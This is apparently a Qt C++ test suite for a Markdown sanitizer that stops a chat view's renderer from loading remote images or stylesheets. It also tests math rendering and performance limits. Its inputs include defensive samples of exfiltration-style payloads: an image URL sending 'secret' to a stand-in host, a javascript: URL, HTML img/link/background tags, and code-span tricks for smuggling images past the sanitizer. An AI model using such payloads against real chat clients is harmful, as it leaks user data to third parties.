// Markdown made safe for Qt's importer: what it renders, checked on the real rendering (a
// QTextDocument filled with setMarkdown(), as the chat's TextEdit does), with the importer's
// own resource loading recorded. Every hostile case first shows that the raw text does fetch.
#include "mathmarkup.h"
#include "safemarkdown.h"

#include <QAbstractTextDocumentLayout>
#include <QElapsedTimer>
#include <QRandomGenerator>
#include <QTest>
#include <QTextBlock>
#include <QTextDocument>
#include <QTextFragment>

namespace {

// The chat's TextEdit: Markdown in, resources asked of the document (images, style sheets).
class RecordingDocument : public QTextDocument {
public:
    QList<QUrl> requested;

protected:
    QVariant loadResource(int type, const QUrl& name) override
    {
        requested.append(name);
        return QTextDocument::loadResource(type, name);
    }
};

struct Rendering {
    int images = 0;          // QTextImageFormat characters
    QStringList formulas;    // the LaTeX of the images that are formulas (app/math), "$$…" display
    int otherImages = 0;     // images that are not
    int backgrounds = 0;     // formats with a background image URL
    QList<QUrl> requested;   // resources the document asked for while importing and laying out
    QStringList anchors;     // link targets
    QString text;            // what is shown
    bool fetches() const { return images > 0 || backgrounds > 0 || !requested.isEmpty(); }
};

Rendering render(const QString& markdown)
{
    RecordingDocument doc;
    doc.setMarkdown(markdown);   // the TextEdit's default: GitHub dialect, HTML allowed
    doc.setTextWidth(600);
    (void)doc.documentLayout()->documentSize();   // lays out: images ask for their pixels here
    Rendering r;
    r.requested = doc.requested;
    r.text = doc.toPlainText();
    for (QTextBlock b = doc.begin(); b.isValid(); b = b.next()) {
        if (b.blockFormat().hasProperty(QTextFormat::BackgroundImageUrl))
            ++r.backgrounds;
        for (auto it = b.begin(); !it.atEnd(); ++it) {
            const QTextCharFormat f = it.fragment().charFormat();
            if (f.isImageFormat()) {
                ++r.images;
                QString latex;
                bool display = false;
                if (math::sourceFromImageName(f.toImageFormat().name(), &latex, &display))
                    r.formulas.append(display ? QStringLiteral("$$") + latex : latex);
                else
                    ++r.otherImages;
            }
            if (f.hasProperty(QTextFormat::BackgroundImageUrl))
                ++r.backgrounds;
            if (f.isAnchor())
                r.anchors.append(f.anchorHref());
        }
    }
    return r;
}

QString describe(const QString& in, const Rendering& r)
{
    QStringList urls;
    for (const QUrl& u : r.requested)
        urls << u.toString();
    return QStringLiteral("input %1\nsafe  %2\nimages %3, backgrounds %4, requested [%5]")
        .arg(in, safeMarkdown(in))
        .arg(r.images)
        .arg(r.backgrounds)
        .arg(urls.join(QLatin1Char(' ')));
}

}   // namespace

class TestSafeMarkdown : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void imageBecomesALinkShowingItsUrl()
    {
        const QString in = QStringLiteral("See ![chart](http://host/leak?d=secret \"t\") here.");
        QVERIFY(render(in).fetches());   // the importer would load it
        QCOMPARE(safeMarkdown(in),
                 QStringLiteral(
                     "See [image\\: chart — http\\:\\/\\/host\\/leak\\?d\\=secret](http://host/leak?d=secret) here."));
        const Rendering r = render(safeMarkdown(in));
        QVERIFY2(!r.fetches(), qPrintable(describe(in, r)));
        QCOMPARE(r.anchors.first(), QStringLiteral("http://host/leak?d=secret"));
        QCOMPARE(r.text, QStringLiteral("See image: chart — http://host/leak?d=secret here."));
    }

    void imageForms_data()
    {
        QTest::addColumn<QString>("in");
        QTest::addColumn<QString>("shown");     // the rendered text
        QTest::addColumn<QString>("href");      // the link it becomes ("" = none)
        QTest::addColumn<bool>("rawIsImage");   // whether Qt 6.4 shows the raw text as an image
        // Qt 6.4 inserts an image only from its alt text: without one, nothing is shown at all.
        QTest::newRow("no alt") << "![](http://h/a.png)"
                                << "image: http://h/a.png"
                                << "http://h/a.png" << false;
        QTest::newRow("angle destination") << "![a](<http://h/a b.png>)"
                                           << "image: a — http://h/a b.png"
                                           << "http://h/a%20b.png" << true;
        QTest::newRow("nested brackets") << "![a [b] c](http://h/x)"
                                         << "image: a [b] c — http://h/x"
                                         << "http://h/x" << true;
        QTest::newRow("parentheses") << "![a](http://h/x_(1).png)"
                                     << "image: a — http://h/x_(1).png"
                                     << "http://h/x_(1).png" << true;
        QTest::newRow("reference") << "![a][r]\n\n[r]: http://h/r.png"
                                   << "image: a — http://h/r.png"
                                   << "http://h/r.png" << true;
        QTest::newRow("collapsed reference") << "![R][]\n\n[r]: http://h/r.png"
                                             << "image: R — http://h/r.png"
                                             << "http://h/r.png" << true;
        QTest::newRow("shortcut reference") << "![r]\n\n[R]: <http://h/r.png>"
                                            << "image: r — http://h/r.png"
                                            << "http://h/r.png" << true;
        QTest::newRow("undefined reference") << "![a][nowhere]"
                                             << "![a][nowhere]"
                                             << "" << false;
        QTest::newRow("in a list") << "- ![a](http://h/x)"
                                   << "image: a — http://h/x"
                                   << "http://h/x" << true;
        QTest::newRow("in a table") << "| a |\n|---|\n| ![x](http://h/t) |"
                                    << "a\nimage: x — http://h/t"
                                    << "http://h/t" << true;
        QTest::newRow("javascript") << "![x](javascript:alert(1))"
                                    << "image: x — javascript:alert(1)"
                                    << "javascript:alert(1)" << true;
    }
    void imageForms()
    {
        QFETCH(QString, in);
        QFETCH(QString, shown);
        QFETCH(QString, href);
        QFETCH(bool, rawIsImage);
        QCOMPARE(render(in).fetches(), rawIsImage);
        const Rendering r = render(safeMarkdown(in));
        QVERIFY2(!r.fetches(), qPrintable(describe(in, r)));
        QCOMPARE(r.text.trimmed(), shown);
        if (href.isEmpty())
            QVERIFY(r.anchors.isEmpty());
        else
            QCOMPARE(r.anchors.value(r.anchors.size() - 1), href);
    }

    // Qt's importer hands raw HTML (inline and blocks) to its HTML parser once every tag it
    // opened is closed: <img/> is then loaded; until then the text after it is swallowed
    // (hidden). Made safe, all of it is shown as written.
    void htmlIsShownAsText_data()
    {
        QTest::addColumn<QString>("in");
        QTest::addColumn<QString>("shown");
        QTest::addColumn<bool>("rawFetches");
        const auto asWritten = [](const char* name, const char* in, bool rawFetches) {
            QTest::newRow(name) << in << in << rawFetches;
        };
        asWritten("inline img", "a <img src=\"http://h/i.png\"/> b", true);
        asWritten("img closed", "<img src=http://h/c.png></img>", true);
        QTest::newRow("html block") << "<div>\n<img src=\"http://h/i.png\"/>\n</div>"
                                    << "<div> <img src=\"http://h/i.png\"/> </div>" << true;
        asWritten("table background", "<table background=\"http://h/bg.png\"><tr><td>x</td></tr></table>", true);
        QTest::newRow("in emphasis") << "*<img src=http://h/e.png/>*"
                                     << "<img src=http://h/e.png/>" << true;
        QTest::newRow("in a heading") << "# T <img src=http://h/h.png/>"
                                      << "T <img src=http://h/h.png/>" << true;
        QTest::newRow("in a quote") << "> <img src=http://h/q.png/>"
                                    << "<img src=http://h/q.png/>" << true;
        asWritten("unclosed img hides the rest", "a <img src=\"http://h/i.png\"> b", false);
        asWritten("anchor", "<a href=\"http://h\"><img src=\"http://h/i.png\"></a>", false);
        asWritten("style sheet", "<link rel=\"stylesheet\" href=\"http://h/s.css\"/>x", false);
        asWritten("comment", "<!-- x --><img src=http://h/c.png>", false);
    }
    void htmlIsShownAsText()
    {
        QFETCH(QString, in);
        QFETCH(QString, shown);
        QFETCH(bool, rawFetches);
        const Rendering raw = render(in);
        QCOMPARE(raw.fetches(), rawFetches);
        QVERIFY(raw.text.trimmed() != shown);   // raw, the HTML is interpreted or swallowed
        const Rendering r = render(safeMarkdown(in));
        QVERIFY2(!r.fetches(), qPrintable(describe(in, r)));
        QCOMPARE(r.text.trimmed(), shown);
    }

    // Entities are decoded one by one into text: "&lt;img&gt;" is shown, never parsed.
    void entitiesStayText()
    {
        const QString in = QStringLiteral("&lt;img src=\"http://h/i.png\"&gt; &#60;img src=x&#62; &amp;");
        QCOMPARE(safeMarkdown(in), in);
        const Rendering r = render(in);
        QVERIFY2(!r.fetches(), qPrintable(describe(in, r)));
        QCOMPARE(r.text, QStringLiteral("<img src=\"http://h/i.png\"> <img src=x> &"));
    }

    // What is not an image or HTML passes untouched: code, autolinks, links, ordinary text.
    void harmlessMarkdownIsUntouched_data()
    {
        QTest::addColumn<QString>("in");
        QTest::newRow("code span") << "Use `<img src=x>` or `![a](b)`.";
        QTest::newRow("double backticks") << "``a ` <b> ``";
        QTest::newRow("indented code") << "Text:\n\n    <img src=\"http://h/i.png\">\n    ![a](http://h/b)";
        QTest::newRow("autolinks") << "<https://example.org/a?b=c> and <me@example.org>";
        QTest::newRow("links") << "[docs](https://example.org) and **bold** and a < b > c.";
        QTest::newRow("escaped") << "\\![not](an image) \\<b>";
        QTest::newRow("list") << "1. one\n2. two\n   - nested";
    }
    void harmlessMarkdownIsUntouched()
    {
        QFETCH(QString, in);
        const QString out = safeMarkdown(in);
        if (in.contains(QLatin1String(" < b > ")))
            QCOMPARE(out, QString(in).replace(QLatin1String(" < b "), QLatin1String(" \\< b ")));
        else
            QCOMPARE(out, in);
        QCOMPARE(render(out).text, render(in).text);
    }

    // Code spans are paired per paragraph, the way Qt's parser pairs them; where the two could
    // disagree (a span running over lines, a table row) nothing is kept verbatim.
    void codeSpanTricks_data()
    {
        QTest::addColumn<QString>("in");
        QTest::newRow("span over two lines") << "`a\nb`<img src=http://h/1.png>`";
        QTest::newRow("heading cuts the paragraph") << "x `a\n# h ` `y<img src=http://h/2.png>`";
        QTest::newRow("table cells split spans") << "| a | b |\n|---|---|\n| `x | <img src=http://h/3.png> | y` |";
        QTest::newRow("list continuation") << "- a\n\n  b\n\n    <img src=http://h/4.png>";
        QTest::newRow("ordered continuation") << "10. a\n\n    <img src=http://h/5.png>";
        QTest::newRow("lazy line") << "para\n    <img src=http://h/6.png>";
        QTest::newRow("image in a span's reach") << "![a`](http://h/7.png) `";
        QTest::newRow("escaped backtick") << "\\`<img src=http://h/8.png>`";
        QTest::newRow("autolink lookalike") << "<ab:`>`<img src=http://h/9.png>`";
        QTest::newRow("fence in prose") << "```\nx\n````\n![i](http://h/10.png)\n```";
    }
    void codeSpanTricks()
    {
        QFETCH(QString, in);
        const Rendering r = render(safeMarkdown(in));
        QVERIFY2(!r.fetches(), qPrintable(describe(in, r)));
    }

    // Thousands of random mixes of the pieces above: none of them fetches once made safe, while
    // many of the raw ones do (so the check can tell).
    void randomMixesNeverFetch()
    {
        const QStringList pieces = {
            QStringLiteral("!["),
            QStringLiteral("]("),
            QStringLiteral(")"),
            QStringLiteral("["),
            QStringLiteral("]"),
            QStringLiteral("http://h/x.png"),
            QStringLiteral("<img src=http://h/i.png>"),
            QStringLiteral("<"),
            QStringLiteral(">"),
            QStringLiteral("`"),
            QStringLiteral("``"),
            QStringLiteral("\\"),
            QStringLiteral("|"),
            QStringLiteral("\n"),
            QStringLiteral("\n\n"),
            QStringLiteral("    "),
            QStringLiteral("- "),
            QStringLiteral("> "),
            QStringLiteral("# "),
            QStringLiteral("[r]: http://h/r.png\n"),
            QStringLiteral("![r]"),
            QStringLiteral("<http://a>"),
            QStringLiteral("&lt;"),
            QStringLiteral("x"),
            QStringLiteral(" "),
            QStringLiteral("\"t\""),
            QStringLiteral("<div>"),
            QStringLiteral("|---|\n"),
            QStringLiteral("1. "),
            QStringLiteral("<img src=http://h/s.png/>"),
            QStringLiteral("</div>"),
            QStringLiteral("![a](http://h/a.png)"),
        };
        QRandomGenerator rng(20);
        int rawFetching = 0;
        for (int round = 0; round < 1500; ++round) {
            QString in;
            const int n = 3 + int(rng.bounded(14));
            for (int i = 0; i < n; ++i)
                in += pieces.at(int(rng.bounded(int(pieces.size()))));
            if (render(in).fetches())
                ++rawFetching;
            const Rendering r = render(safeMarkdown(in));
            QVERIFY2(!r.fetches(), qPrintable(describe(in, r)));
        }
        QVERIFY2(rawFetching > 300, qPrintable(QString::number(rawFetching)));
    }

    // Math spans become formula images (app/math), and nothing else does: prices, escaped
    // dollars and code stay text.
    void mathSpans_data()
    {
        QTest::addColumn<QString>("in");
        QTest::addColumn<QStringList>("formulas");   // in order; "$$" before a display one
        const QStringList none;
        QTest::newRow("dollars") << "so $x^2$ holds" << QStringList{"x^2"};
        QTest::newRow("parentheses") << "so \\(a+b\\) holds" << QStringList{"a+b"};
        QTest::newRow("display dollars") << "$$E=mc^2$$" << QStringList{"$$E=mc^2"};
        QTest::newRow("display brackets") << "\\[\\frac{1}{2}\\]" << QStringList{"$$\\frac{1}{2}"};
        QTest::newRow("two") << "$a$ and $b$" << QStringList{"a", "b"};
        QTest::newRow("prices") << "It costs $5 and $10." << none;
        QTest::newRow("prices with commas") << "Pay $5, or $6." << none;
        QTest::newRow("escaped opening") << "\\$x$" << none;
        QTest::newRow("escaped closing") << "$x\\$ y$" << QStringList{"x\\$ y"};
        QTest::newRow("space after opening") << "$ x$" << none;
        QTest::newRow("space before closing") << "$x $" << none;
        QTest::newRow("digit after closing") << "$x$5" << none;
        QTest::newRow("empty") << "$$ $$, $ $" << none;
        QTest::newRow("code span") << "`$x$`" << none;
        QTest::newRow("code span then math") << "a `b $x$` c $y$" << QStringList{"y"};
        QTest::newRow("math around a code span") << "$a `b$` c" << none;
        QTest::newRow("indented code") << "text\n\n    $x$" << none;
        QTest::newRow("list item") << "- item $\\alpha$" << QStringList{"\\alpha"};
        QTest::newRow("table") << "| $a$ | $b$ |\n|---|---|\n| 1 | 2 |" << QStringList{"a", "b"};
        QTest::newRow("over lines") << "$a\nb$" << none;
        QTest::newRow("in an image's alt") << "![$x$](http://h/a.png)" << none;
    }
    void mathSpans()
    {
        QFETCH(QString, in);
        QFETCH(QStringList, formulas);
        const Rendering r = render(safeMarkdown(in));
        QCOMPARE(r.formulas, formulas);
        QCOMPARE(r.otherImages, 0);
        QCOMPARE(r.backgrounds, 0);
        // The only resources asked for are the formulas' images, by their relative names.
        for (const QUrl& u : r.requested) {
            QString latex;
            bool display = false;
            QVERIFY2(math::sourceFromImageName(u.toString(), &latex, &display), qPrintable(u.toString()));
        }
    }

    void formulaThatFailsShowsItsSource()
    {
        const Rendering r = render(safeMarkdown(QStringLiteral("see $\\foo{x}$ and \\(\\frac{a}\\) here")));
        QCOMPARE(r.images, 0);
        QCOMPARE(r.text, QStringLiteral("see $\\foo{x}$ and \\(\\frac{a}\\) here"));
    }

    // Content cannot make a formula image, or any image, by writing one: only math spans do.
    void writtenMathImagesStayText()
    {
        const QString id = QStringLiteral("ff000000/1/i/15/") + math::encodeSource(QStringLiteral("x"));
        for (const QString& in :
             {QStringLiteral("![x](image://math/%1)").arg(id), QStringLiteral("<img src=\"image://math/%1\">").arg(id),
              QStringLiteral("<img src=\"i/15/eA\" width=\"9\" height=\"9\" align=\"middle\" />"),
              QStringLiteral("![x](i/15/eA)")}) {
            const Rendering r = render(safeMarkdown(in));
            QVERIFY2(r.images == 0 && r.requested.isEmpty(), qPrintable(describe(in, r)));
        }
    }

    void formulasPerTextAreBounded()
    {
        // Unmatched openers on a long line: each looks for its end a bounded distance only.
        QElapsedTimer timer;
        timer.start();
        const QString openers =
            (QStringLiteral("$a ") + QString(200, QLatin1Char('x')) + QLatin1Char(' ')).repeated(3000);
        QCOMPARE(safeMarkdown(openers), openers);
        QVERIFY2(timer.elapsed() < 2000, qPrintable(QString::number(timer.elapsed())));   // unbounded: 1.8 G steps

        const QString in = QStringLiteral("$x$ and $y$\n\n").repeated(150);
        const Rendering r = render(safeMarkdown(in));
        QCOMPARE(r.images, kMaxFormulas);
        QCOMPARE(r.otherImages, 0);
        QVERIFY(r.text.contains(QLatin1String("$x$ and $y$")));   // the rest as written
    }

    // Long lines: thousands of backtick runs of different lengths, of images, of tags, of code
    // spans. (What they cost is measured, not asserted: about 0.4 s for all of them here; a
    // regex over the whole line at each "<" once made it 45 s.)
    void hugeInputs()
    {
        QString backticks;
        for (int i = 1; i <= 2000; ++i)
            backticks += QString(i % 50 + 1, QLatin1Char('`')) + QLatin1Char('x');
        const QString a = safeMarkdown(backticks);
        QCOMPARE(a.size(), backticks.size());
        const QString images = QStringLiteral("![a](http://h/i.png) ").repeated(20000);
        const QString b = safeMarkdown(images);
        QCOMPARE(b.count(QLatin1String("](http://h/i.png)")), 20000);
        QVERIFY(!b.contains(QLatin1String("![")));
        const QString html = QStringLiteral("<img src=http://h/i.png>").repeated(40000);
        QCOMPARE(safeMarkdown(html).count(QLatin1String("\\<img")), 40000);
        const QString spans = QStringLiteral("`<img src=x>` ![a](b) ").repeated(20000);
        const QString c = safeMarkdown(spans);
        QCOMPARE(c.count(QLatin1String("`<img src=x>`")), 20000);   // code kept as written
        QCOMPARE(c.count(QStringLiteral("[image\\: a — b](b)")), 20000);
    }

    // The paragraphs Qt would take seconds over are recognised; ordinary prose, lists of links
    // and the same links cut into paragraphs are not. (The costs behind the limit are in
    // safemarkdown.h; here only which texts cross it.)
    void tooCostlyParagraphs()
    {
        QString oneParagraph, tenPerParagraph, list, escapes;
        for (int i = 0; i < 1500; ++i) {
            oneParagraph += QStringLiteral("[l%1](http://h/%1) ").arg(i);
            tenPerParagraph +=
                QStringLiteral("[l%1](http://h/%1) ").arg(i) + (i % 10 == 9 ? QStringLiteral("\n\n") : QString());
            list += QStringLiteral("- [item %1](https://example.org/%1) and *more*\n").arg(i);
        }
        escapes = QStringLiteral("<a> &amp; ").repeated(200);
        QVERIFY(tooCostlyAsMarkdown(oneParagraph));
        QVERIFY(tooCostlyAsMarkdown(escapes));
        QVERIFY(tooCostlyAsMarkdown(QStringLiteral("*w* ").repeated(200)));
        QVERIFY(!tooCostlyAsMarkdown(tenPerParagraph));
        QVERIFY(!tooCostlyAsMarkdown(list));
        const QString prose = QStringLiteral(
            "Use `std::vector<int>` when the size changes, **not** a raw array; see [the reference]"
            "(https://en.cppreference.com/w/cpp/container/vector) and *Effective Modern C++*, item 18. ");
        QVERIFY(!tooCostlyAsMarkdown(prose.repeated(10)));   // a dense 1.8 KB paragraph
        // The limit is where it says: one markup character more crosses it.
        QVERIFY(!tooCostlyAsMarkdown(QString(kMaxMarkupPerParagraph, QLatin1Char('*'))));
        QVERIFY(tooCostlyAsMarkdown(QString(kMaxMarkupPerParagraph + 1, QLatin1Char('*'))));
    }
};

QTEST_MAIN(TestSafeMarkdown)
#include "tst_safemarkdown.moc"
